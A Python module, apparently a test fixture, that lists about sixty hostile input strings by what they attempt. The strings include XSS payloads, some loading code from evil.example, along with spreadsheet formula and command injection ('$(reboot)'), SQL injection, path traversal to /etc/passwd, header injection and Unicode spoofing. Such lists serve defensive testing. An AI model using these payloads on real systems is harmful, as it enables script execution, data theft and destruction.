"""Sixty texts that somebody may type, paste or send to harm whoever reads them, by what they try."""

RUNS_A_SCRIPT = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    '<a href="javascript:alert(1)">here</a>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "`-alert(1)-`",
    "</script><script>alert(1)</script>",
    "]]>--><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q autofocus>",
    "<object data=//evil.example/x.swf></object>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
CHANGES_THE_LOOK = (
    "<style>*{display:none}</style>",
    "x;position:fixed;inset:0;background:url(//evil.example)",
    "<h1 style=font-size:900px>BIG",
    "<!--",
    "W" * 400,
    "Z" + "\u0301" * 300,  # marks piled on one letter
    "\ufdfd" * 20,  # the widest letter there is
    "line\u2028sep\u2029par",
)
TRICKS_THE_READER = (
    "\u202egnp.exe",  # reads as exe.png
    "\u2066abc\u2067def\u2069",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",  # honest words that run from right to left
    "p\u0430yp\u0430l",  # with two Cyrillic letters
    "zero\u200bwidth\u200d\u2060join",
    "\ufeffmark first",
    "nul\u0000bell\u0007esc\u001b[31mred",
    "\U000e0041\U000e0042tags",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "lone \ufffe end",
)
RUNS_ELSEWHERE = (
    "=HYPERLINK(\"http://evil.example\",\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "{{ 7 * 7 }}{% include 'x' %}${7*7}<%= 7*7 %>",
    "'; DROP TABLE submission; --",
    "\" OR 1=1 /*",
    "NEAR(a b) AND title:* \"",  # the full-text index's own words
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini\u0000.png",
    "x\r\nSet-Cookie: beatbook_desk=evil\r\n\r\n<html>",
    "$(reboot)`reboot`|reboot",
)  # fmt: skip
HOSTILE = (*RUNS_A_SCRIPT, *CHANGES_THE_LOOK, *TRICKS_THE_READER, *RUNS_ELSEWHERE)
